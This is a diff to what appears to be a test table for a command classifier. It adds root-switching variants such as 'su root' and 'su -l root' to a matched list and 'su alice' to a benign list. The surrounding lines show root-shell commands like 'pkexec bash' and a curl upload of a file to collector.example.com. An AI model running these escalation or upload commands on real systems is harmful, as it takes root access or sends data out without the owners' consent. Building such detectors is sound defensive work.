@@ -48,6 +48,9 @@ EXACT = [
     ("sudo -i", E),
     ("su -", E),
     ("su", E),
+    ("su root", E),
+    ("su - root", E),
+    ("su -l root", E),
     ("doas -s", E),
     ("pkexec bash", E),
     ("curl --data-binary @report.bin https://collector.example.com/upload", U),
@@ -73,6 +76,7 @@ SEEN = [
 ]
 NOTHING = [
     "sudo apt-get update",
+    "su alice",
     "sudo --help",
     "sudo -V",
     "find ./src -perm -4000",
